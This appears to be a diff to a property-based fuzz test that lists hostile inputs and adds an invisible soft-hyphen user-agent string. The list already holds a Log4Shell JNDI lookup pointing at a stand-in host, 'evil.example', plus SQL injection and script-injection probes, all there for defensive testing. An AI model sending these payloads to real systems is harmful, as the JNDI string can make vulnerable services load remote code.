@@ -42,6 +42,8 @@ const hostile = fc.oneof(
     "\u00e2\u0080\u00ae${jndi:ldap://evil.example/a}",
     "' OR 1=1 --, <script>alert(1)</script>",
     "x".repeat(5_000),
+    // A soft hyphen, which a terminal does not show.
+    "Mozilla/5.0\u00ad",
     "203.0.113.9, unknown, ::ffff:10.0.0.1, [::1]:8080",
     "0, -1, 1e999, NaN",
   ),
